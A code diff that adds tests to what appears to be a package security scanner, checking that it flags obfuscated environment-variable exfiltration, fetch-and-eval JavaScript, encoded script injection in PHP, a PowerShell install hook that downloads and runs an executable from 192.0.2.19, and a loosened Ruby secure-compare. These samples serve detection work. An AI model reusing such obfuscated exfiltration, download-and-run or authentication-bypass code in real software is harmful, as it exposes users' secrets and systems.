@@ -1,7 +1,20 @@
 """What real updates were held for, and need not be; beside each what is to be held all the same."""
 
 import pytest
-from source_lab import ids
+from source_lab import behaviours, ids
+
+from beartrap.model.finding import Severity
+from beartrap.vet.behaviour import When
+from beartrap.vet.facts import PackageFacts
+from beartrap.vet.source import tree
+from beartrap.vet.source.guards import loosened
+from beartrap.vet.source.walk import parse
+
+
+def the_function(language: str, text: str) -> tree.Function:
+    (made,) = parse(language, text).body
+    assert isinstance(made, tree.Function)
+    return made
 
 
 @pytest.mark.parametrize(
@@ -41,3 +54,62 @@ def test_tables_are_merged_whatever_it_is_called(merge: str) -> None:
         f"const table = {merge}({{}}, {{ code: await (await fetch('https://a.invalid')).text() }}); eval(table.code);"
     )
     assert "chain.network-to-code" in ids("a.js", code)
+
+
+MODULES = """
+def resolve(path):
+    root, *rest = path.split(":")
+    value = __import__("".join(reversed(root)))
+    for one in rest:
+        value = getattr(value, one[::-1])
+    return value
+resolve("tseuqer.billru:tseuqer:nepolru")("https://a.invalid", str(dict(resolve("so:norivne"))).encode(), 3)
+"""
+
+
+def test_an_import_by_name_gives_the_package_and_not_the_module_in_it() -> None:
+    assert "chain.environment-to-network" in ids("a.py", MODULES)
+    assert "chain.environment-to-network" not in ids("a.py", MODULES.replace("so:norivne", "so:pes"))
+
+
+@pytest.mark.parametrize(
+    ("template", "hit"),
+    [("base64.b64decode(text).decode()", True), ("text", False)],
+)
+def test_a_template_that_had_to_be_decoded_is_code_that_was_hidden(template: str, hit: bool) -> None:
+    code = f"import base64\nfrom pathlib import Path\nfrom jinja2 import Environment\ntext = (Path(__file__).parent / 'a.json').read_text()\nEnvironment().from_string({template}).render()\n"
+    assert ("hidden.code" in ids("a.py", code)) == hit
+
+
+@pytest.mark.parametrize(
+    ("script", "hit"),
+    [
+        ("s.src=String.fromCharCode(104,116,116,112,115,58,47,47,97,46,105,110,118,97,108,105,100,47,112,46,106,115)", True),
+        ("s.textContent=\"ready\"", False),
+    ],
+)  # fmt: skip
+def test_scripts_in_what_php_shows_are_read(script: str, hit: bool) -> None:
+    page = f"<?php echo '<script>var s=document.createElement(\"script\");{script};document.head.appendChild(s);</script>';"
+    assert ("chain.network-to-code" in ids("a.php", page)) == hit
+
+
+def test_what_a_package_has_run_weighs_as_that_wherever_it_stands() -> None:
+    """A `tools` folder is the developers' own, but not where the package manager runs what is in it."""
+    code = "$job = Start-Job -ScriptBlock { iwr http://192.0.2.19/i.exe -OutFile $env:TEMP\\i.exe; Start-Process $env:TEMP\\i.exe }\n"
+    run = PackageFacts("nuget", runs={"tools/init.ps1": When.INSTALL})
+    weights = {
+        facts.ecosystem: max(one.severity for one in behaviours("tools/init.ps1", code, facts))
+        for facts in (run, PackageFacts("generic"))
+    }
+    assert weights["nuget"] >= Severity.HIGH > weights["generic"]
+
+
+@pytest.mark.parametrize("refusal", ["return false if other.nil?", "return nil unless other"])
+def test_what_ruby_returns_is_known(refusal: str) -> None:
+    old = the_function("ruby", "def ==(other)\n  OpenSSL.secure_compare(@stored, digest(other))\nend\n")
+    new = the_function("ruby", f"def ==(other)\n  {refusal}\n  OpenSSL.secure_compare(@stored, digest(other))\nend\n")
+    yes = the_function(
+        "ruby", "def ==(other)\n  return true if other == @key\n  OpenSSL.secure_compare(@stored, digest(other))\nend\n"
+    )
+    assert not list(loosened(old, new))
+    assert list(loosened(old, yes))
